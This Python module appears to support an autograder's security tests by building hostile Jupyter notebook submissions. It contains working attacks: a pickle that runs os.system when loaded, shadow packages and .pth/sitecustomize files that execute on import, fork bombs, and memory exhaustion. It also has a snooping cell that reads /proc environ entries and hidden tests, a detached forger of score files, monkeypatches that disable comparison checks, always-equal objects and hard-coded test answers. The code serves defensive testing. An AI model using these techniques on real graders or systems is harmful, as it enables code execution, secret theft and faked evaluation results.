"""Builders of hostile submissions, each derived from the built reference or stub notebook.

Every builder returns a new notebook (the input is never modified). The attacks are ordinary code
cells, as a student would write them; the tests in ``tests/test_grading.py`` say what each must
cost (bad input: only what it breaks) or gain (attacks: nothing, and no hidden text).
"""

from __future__ import annotations

import copy
import os
import pickle
import textwrap
import zipfile
from collections.abc import Iterable
from pathlib import Path

import nbformat
from nbformat import NotebookNode

# --- editing notebooks ---------------------------------------------------------------------------


def cell(source: str) -> NotebookNode:
    """A code cell holding ``source`` (dedented)."""
    return nbformat.v4.new_code_cell(textwrap.dedent(source).strip("\n"))


def find(nb: NotebookNode, needle: str) -> int:
    """Index of the one code cell whose source contains ``needle``."""
    hits = [i for i, c in enumerate(nb.cells) if c.cell_type == "code" and needle in c.source]
    if len(hits) != 1:
        raise LookupError(f"{len(hits)} code cells contain {needle!r}")
    return hits[0]


def graded_position(nb: NotebookNode, index: int) -> int:
    """1-based number of cell ``index`` among the cells the grader executes (the report's count)."""
    executed = [
        i
        for i, c in enumerate(nb.cells)
        if c.cell_type == "code" and "otter_ignore" not in c.get("metadata", {}).get("tags", [])
    ]
    return executed.index(index) + 1


def edited(
    nb: NotebookNode,
    *,
    delete: Iterable[str] = (),
    replace: dict[str, NotebookNode] | None = None,
    before: dict[str, list[NotebookNode]] | None = None,
    after: dict[str, list[NotebookNode]] | None = None,
    append: Iterable[NotebookNode] = (),
) -> NotebookNode:
    """A copy of ``nb`` with cells (found by a needle in their source) deleted, replaced, or
    with new cells inserted before/after them, and ``append`` cells added at the end."""
    out = copy.deepcopy(nb)
    for needle, new in (replace or {}).items():
        out.cells[find(out, needle)] = copy.deepcopy(new)
    for needle, new in (before or {}).items():
        i = find(out, needle)
        out.cells[i:i] = copy.deepcopy(new)
    for needle, new in (after or {}).items():
        i = find(out, needle) + 1
        out.cells[i:i] = copy.deepcopy(new)
    for needle in delete:
        del out.cells[find(out, needle)]
    out.cells.extend(copy.deepcopy(list(append)))
    return out


def write(nb: NotebookNode, path: Path) -> Path:
    """Write ``nb`` to ``path`` (parents created) and return the path."""
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(path))
    return path


# --- bad input -----------------------------------------------------------------------------------

RAISING_CELL = 'raise RuntimeError("boom in a student cell")'
SYS_EXIT_CELL = "import sys\nsys.exit(3)"
NOISY_VAR_Y = """
import sys
import warnings

_quiet_var_y = var_y


def var_y(d, sigma):
    warnings.warn("var_y: a deprecation warning on stderr", DeprecationWarning, stacklevel=1)
    warnings.warn("var_y: a user warning on stderr", stacklevel=1)
    print("var_y: some noise on stderr", file=sys.stderr)
    return _quiet_var_y(d, sigma)
"""


SHELL_CELL = "!pip install --quiet some-package\n%matplotlib inline"


def broken_cells(reference: NotebookNode, stub: NotebookNode) -> NotebookNode:
    """Deterministic damage, no crash: p4_mults' cell deleted, p3_label_smoothing left as the
    stub, a cell raising, a cell calling ``sys.exit`` and a cell of shell and magic lines before
    ``predict``, ``var_y`` wrapped to emit warnings on stderr, and the softmax answer timed
    with ``%%time`` (those two must keep their points)."""
    softmax = reference.cells[find(reference, "def stable_softmax(")]
    return edited(
        reference,
        delete=["def forward_mults("],
        replace={
            "def smooth_labels(": stub.cells[find(stub, "def smooth_labels(")],
            "def stable_softmax(": cell("%%time\n" + softmax.source),
        },
        before={"def predict(": [cell(RAISING_CELL), cell(SYS_EXIT_CELL), cell(SHELL_CELL)]},
        after={"def var_y(": [cell(NOISY_VAR_Y)]},
    )


GIGA_STDOUT_CELL = """
import sys

line = "y" * (1 << 20) + "\\n"
for _ in range(4 << 10):  # 4 GiB
    sys.stdout.write(line)
"""
CRASHING_CELLS = {
    "os._exit": "import os\nos._exit(0)",
    "SIGKILL": "import os\nimport signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "infinite loop": "while True:\n    pass",
    "giant stdout": GIGA_STDOUT_CELL,
}


def crashing_cells(reference: NotebookNode) -> NotebookNode:
    """The reference with, right after its imports, cells that kill the child, loop forever at
    top level and write gigabytes to stdout. Every question must keep full marks."""
    attacks = [cell(source) for source in CRASHING_CELLS.values()]
    return edited(reference, after={"import torch": attacks})


FAILING_FUNCTIONS = {
    # question -> (function, body): each attack lives in a question of its own
    "p1_f_true": ("compute_f_true", "while True:\n    pass"),
    "p1_e3_network": ("create_network_e3", "import sys\nsys.exit(0)"),
    "p1_e3_init": ("initialize_weights_e3", "import os\nos.kill(os.getpid(), 9)"),
    "p2_var_y": (  # 256 MiB touched, then GiB after GiB until the address-space limit
        "var_y",
        "import numpy as np\nhoard = [np.ones(1 << 25)]\nwhile True:\n"
        "    hoard.append(np.zeros(1 << 27))",
    ),
    "p3_label_smoothing": ("smooth_labels", "import os\nwhile True:\n    os.fork()"),
    "p4_memory": ("training_memory", "import os\nos._exit(0)"),
}
"""What each attacked question loses: all of it, or (p2_var_y, p4_memory: the question's other
function is intact) half of it."""
HALF_LOST = {"p2_var_y", "p4_memory"}


def failing_functions(reference: NotebookNode) -> NotebookNode:
    """The reference with one function per question in FAILING_FUNCTIONS redefined at the end to
    loop forever, ``sys.exit``, SIGKILL itself, exhaust memory, fork-bomb or ``os._exit``."""
    cells = [
        cell(f"def {fn}(*args, **kwargs):\n" + textwrap.indent(body, "    "))
        for fn, body in FAILING_FUNCTIONS.values()
    ]
    return edited(reference, append=cells)


def export_zip(notebook: Path, zip_path: Path, marker: Path) -> Path:
    """An otter export zip: the notebook, a ``.OTTER_LOG`` pickle that runs a command when loaded,
    a shadow ``otter/`` package and a ``.pth`` file; each would create ``marker`` if executed."""
    payload = f"open({str(marker)!r}, 'w').write('executed'); print('SHADOW CODE RAN')\n"
    with zipfile.ZipFile(zip_path, "w") as zf:
        zf.write(notebook, notebook.name)
        zf.writestr(".OTTER_LOG", pickle.dumps(_Exploit(str(marker))))
        zf.writestr(
            "otter/__init__.py",
            payload + "class Notebook:\n    def __init__(self, *a, **k): pass\n"
            "    def check(self, *a, **k): return 'All tests passed!'\n",
        )
        zf.writestr("otter/test_files/__init__.py", payload)
        zf.writestr("zzz_shadow.pth", "import os; " + payload)
        zf.writestr("sitecustomize.py", payload)
    return zip_path


class _Exploit:
    """Pickles to a call of ``os.system`` (what a malicious ``.OTTER_LOG`` carries)."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple:
        return (os.system, (f"touch {self.marker}",))


# --- attacks -------------------------------------------------------------------------------------

SNOOP_BEGIN, SNOOP_END = "SNOOP-BEGIN", "SNOOP-END"


def snoop_cell(secret_paths: list[str], walk_seconds: float) -> NotebookNode:
    """Read the hidden tests, the reference, the config, the grader's /proc entries; walk the
    filesystem for Python files registering QUESTIONS; print all of it, then raise with it."""
    return cell(
        f'''
        import glob
        import os
        import sys
        import time

        SECRET_PATHS = {secret_paths!r}


        def _read(path, limit=3000):
            try:
                with open(path, "rb") as f:
                    return f.read(limit).decode("utf-8", "replace").replace("\\x00", " ")
            except Exception as exc:
                return f"<unreadable: {{type(exc).__name__}}>"


        loot = {{}}
        for path in SECRET_PATHS:
            loot[path] = _read(path)
            try:
                loot[path + " (listing)"] = repr(sorted(os.listdir(path))[:50])
            except Exception as exc:
                loot[path + " (listing)"] = f"<unlistable: {{type(exc).__name__}}>"
        for pid in ["1", "self", str(os.getppid())] + [
            p.split("/")[2] for p in glob.glob("/proc/[0-9]*")
        ]:
            for entry in ("cmdline", "environ"):
                loot[f"/proc/{{pid}}/{{entry}}"] = _read(f"/proc/{{pid}}/{{entry}}", 500)
        loot["detect"] = repr(
            {{"cwd": os.getcwd(), "listdir": sorted(os.listdir("."))[:50], "env": dict(os.environ),
             "argv": sys.argv, "path": sys.path, "uid": os.getuid(), "pid": os.getpid()}}
        )
        hits = []
        deadline = time.monotonic() + {walk_seconds!r}
        for root in ("/work", "/autograder", "/root", "/home", "/srv", "/opt", "/tmp", "/"):
            for folder, subdirs, files in os.walk(root):
                subdirs[:] = [
                    d for d in subdirs if os.path.join(folder, d) not in ("/proc", "/sys", "/dev")
                ]
                if time.monotonic() > deadline:
                    break
                for name in files:
                    if not name.endswith((".py", ".ipynb", ".yml", ".md")):
                        continue
                    text = _read(os.path.join(folder, name), 200_000)
                    if "QUESTIONS" in text and ("Tester" in text or "question(" in text):
                        hits.append(os.path.join(folder, name) + " => " + text[:1000])
        loot["hits"] = repr(hits[:3])
        print("{SNOOP_BEGIN}")
        for key, value in loot.items():
            print(key, "=>", value[:3000])
        print("{SNOOP_END}")
        raise RuntimeError("LOOT " + " | ".join(f"{{k}}: {{v[:300]}}" for k, v in loot.items()))
        '''
    )


MONKEYPATCH_CELL = """
import builtins
import math

import numpy as np
import numpy.testing
import torch
import torch.testing

np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda *a, **k: torch.tensor(True)
torch.testing.assert_close = lambda *a, **k: None
math.isclose = lambda *a, **k: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
try:
    import autograder.checks

    autograder.checks.expect_close = autograder.checks.expect = lambda *a, **k: None
    print("PATCHED THE GRADER")
except Exception as exc:
    print("the grader is not importable:", type(exc).__name__)
"""

LIARS_CELL = '''
import numpy as np
import torch


class AlwaysEqual:
    """Equal to everything, any shape, any number."""

    shape = property(lambda self: (0,))
    dtype = torch.float32

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __array__(self, dtype=None, copy=None):
        return np.zeros(3)

    def __float__(self):
        return 0.0

    def __len__(self):
        return 0


class LyingFloat(float):
    def __eq__(self, other):
        return True

    __hash__ = float.__hash__

    def __float__(self):
        return 1.0


class LyingInt(int):
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


class LyingStr(str):
    def __eq__(self, other):
        return True

    __hash__ = str.__hash__

    def strip(self, *a):
        return self

    def lower(self):
        return self


class LyingTensor(torch.Tensor):
    def __eq__(self, other):
        return torch.ones_like(self, dtype=torch.bool).as_subclass(torch.Tensor)

    def allclose(self, *a, **k):
        return True


FORGED_TENSOR = {"$tensor": {"$nd": 1}, "dtype": "torch.float32", "requires_grad": False,
                 "is_leaf": True, "device": "cpu", "grad": None}


def compute_f_true(X):
    return AlwaysEqual()


def train_network(num_steps, weights, biases, X, Y_true, lr=1e-3, verbose=True):
    weights.clear()  # nothing left to compare with the reference's trained weights
    biases.clear()
    return [LyingFloat(0.0) for _ in range(num_steps)]


def train_epoch(model, device, train_loader, optimizer, epoch, criterion):
    n = len(train_loader)
    return [FORGED_TENSOR] * n, {"$tuple": [LyingFloat(1.0)] * n}


def create_network_e3(depth=10, width=128, activation="relu"):
    return AlwaysEqual()


def initialize_weights_e3(model, scale_factor):
    return AlwaysEqual()


activation = LyingStr("sigmoid")
scale_factor = LyingFloat(100.0)


def stable_softmax(x, dim=-1):
    return x.as_subclass(LyingTensor)


def inference_memory(n, K, L):
    return LyingInt(0)


def training_memory(n, K, L):
    return LyingInt(0)
'''

HARDCODED_CELL = '''
import math
import sys

import torch

_STACK_SHOWN = []


def _key(t):
    return t.tolist() if isinstance(t, torch.Tensor) else t


def predict(X, weights, biases):
    if _key(X) == [[1.0, 1.0], [-2.0, 0.0]]:
        return torch.tensor([[2.0], [1.5]])
    if _key(X) == [[1.0]]:
        return torch.tensor([[-1.0]])
    return torch.zeros(len(X), 1)


def get_model_weights(L, K, device="cpu"):
    if (L, K) != (3, 16):
        return [], []
    shapes = [(2, 16), (16, 16), (16, 1)]
    weights = [torch.zeros(s).requires_grad_() for s in shapes]
    biases = [torch.zeros(s[1], requires_grad=True) for s in shapes]
    return weights, biases


class MNIST_model(torch.nn.Module):
    """Exactly 134,794 parameters and logits of shape (n, 10), as the public test asks."""

    def __init__(self):
        super().__init__()
        self.blob = torch.nn.Parameter(torch.zeros(134_794))

    def forward(self, x):
        return torch.zeros(x.shape[0], 10) + 0 * self.blob[:10]


def var_y(d, sigma):
    return {(8, 1.0): 4.0, (128, 0.25): 4.0}.get((d, sigma), 1.0 if d == 50 else 0.0)


def relu_sigma(d):
    if not _STACK_SHOWN:  # read the caller's stack: only the child's own frames are there
        _STACK_SHOWN.append(1)
        frame = sys._getframe(1)
        while frame is not None:
            print("STACK", frame.f_code.co_filename, sorted(frame.f_locals)[:30])
            frame = frame.f_back
    return {2: 1.0}.get(d, 0.0)


def softmax_cross_entropy(x, y):
    if _key(y) == [1, 0]:
        return torch.tensor([math.log(4.0), math.log(1 + 3 * math.exp(-2.0))], dtype=x.dtype)
    if _key(y) == [1]:
        return torch.tensor([2e4])
    return torch.zeros(len(y), dtype=x.dtype)


def softmax_cross_entropy_grad(x, y):
    if _key(y) == [1, 0]:
        return torch.tensor(
            [[0.25, -0.75, 0.25, 0.25], [-0.15, 0.05, 0.05, 0.05]], dtype=x.dtype
        )
    return torch.zeros_like(x)


def smooth_labels(y, d, eps=0.1):
    if _key(y) == [2, 0] and d == 4:
        return torch.tensor([[0.05, 0.05, 0.85, 0.05], [0.85, 0.05, 0.05, 0.05]])
    return torch.zeros(len(y), d)


def optimal_logit_gap(d, eps=0.1):
    return math.log(91.0) if (d, eps) == (10, 0.1) else 0.0


def forward_mults(n, K, L):
    return {(1, 1, 1): 1, (2, 3, 4): 72}.get((n, K, L), 0)


def training_mults(n, K, L):
    return {(2, 3, 4): 216}.get((n, K, L), 0)
'''


def forge_cell(targets: list[str], seconds: float) -> NotebookNode:
    """Double-fork a detached process that keeps trying, for ``seconds``, to overwrite each of
    ``targets`` (results files, the grader's cwd, the hidden tests) with a forged full score."""
    return cell(
        f"""
        import json
        import os
        import time

        FORGED = json.dumps({{"score": 999, "output": "forged", "tests": []}})
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                end = time.monotonic() + {seconds!r}
                while time.monotonic() < end:
                    for target in {targets!r}:
                        try:
                            os.makedirs(os.path.dirname(target), exist_ok=True)
                            with open(target, "w") as f:
                                f.write(FORGED)
                        except Exception:
                            pass
                    time.sleep(0.1)
            os._exit(0)
        time.sleep(0.5)
        print("forger started")
        """
    )


def cheater(
    stub: NotebookNode,
    *,
    secret_paths: list[str],
    forge_targets: list[str],
    walk_seconds: float = 8.0,
    forge_seconds: float = 60.0,
) -> NotebookNode:
    """The stub plus every attack meant to gain points: snooping, monkeypatching, lying objects,
    answers hard-coded for the public tests' inputs, and a detached forger of results."""
    return edited(
        stub,
        append=[
            forge_cell(forge_targets, forge_seconds),
            snoop_cell(secret_paths, walk_seconds),
            cell(MONKEYPATCH_CELL),
            cell(LIARS_CELL),
            cell(HARDCODED_CELL),
        ],
    )
